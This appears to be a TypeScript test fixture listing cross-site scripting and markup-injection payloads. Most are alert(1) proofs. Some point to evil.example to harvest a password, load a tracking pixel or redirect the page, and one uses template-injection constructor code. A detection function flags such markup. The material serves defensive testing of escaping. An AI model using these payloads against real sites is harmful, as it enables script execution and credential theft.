/** Texts that would be executed, or load from another site, where markup of texts is not escaped. */
export const hostileMarkup: readonly string[] = [
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<a href="javascript:alert(1)">x</a>`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt&colon;alert(1))`,
  `[x](data:text/html,<script>alert(1)</script>)`,
  `[x](//evil.example)`,
  `![x](https://evil.example/pixel.png)`,
  `"><script>alert(1)</script>`,
  `' onmouseover='alert(1)`,
  `</textarea><script>alert(1)</script>`,
  `</h2></section><script>alert(1)</script>`,
  `<style>*{display:none}</style>`,
  `<math><mtext></mtext><script>alert(1)</script></math>`,
  `<form action="https://evil.example"><input name=password></form>`,
  `<base href="https://evil.example">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<object data="javascript:alert(1)"></object>`,
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}`,
  `<!--<script>alert(1)</script>-->`,
  `\u202e<script>alert(1)</script>`,
]

/** Whether the HTML of a page holds elements, handlers or addresses that only an attack would put there. */
export function isHarmful(html: string): boolean {
  return (
    /<(script|iframe|object|embed|form|base|meta|style|math)\b/i.test(html) ||
    /<[^>]*\s(on[a-z]+|style|srcdoc)\s*=/i.test(html.replaceAll(/"[^"]*"/g, '""')) ||
    /(href|src|action)="\s*(javascript|data|vbscript):/i.test(html) ||
    /(href|src)="(\/\/|https:\/\/evil)/i.test(html)
  )
}
